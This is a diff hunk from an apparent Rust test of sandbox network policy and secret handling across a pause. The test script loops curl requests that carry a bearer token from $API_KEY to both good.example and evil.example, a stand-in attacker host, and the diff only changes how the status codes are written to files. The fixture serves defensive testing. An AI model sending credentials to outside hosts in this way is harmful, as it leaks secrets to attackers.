@@ -314,7 +314,7 @@ fn a_policy_and_a_secret_outlive_a_pause() {
             let ask =
                 "curl -sk -o /dev/null -w %{http_code} -H \"authorization: Bearer $API_KEY\" --max-time 10";
             let asking = script(&format!(
-                "while :; do {ask} https://good.example/v1/a > /workspace/good; {ask} http://evil.example/ > /workspace/evil; sleep 0.1; done"
+                "cd /workspace; while :; do {ask} https://good.example/v1/a > new; mv new good; {ask} http://evil.example/ > new; mv new evil; sleep 0.1; done"
             ));
             client.start(&id, &asking).await.unwrap();
             let said = async || {
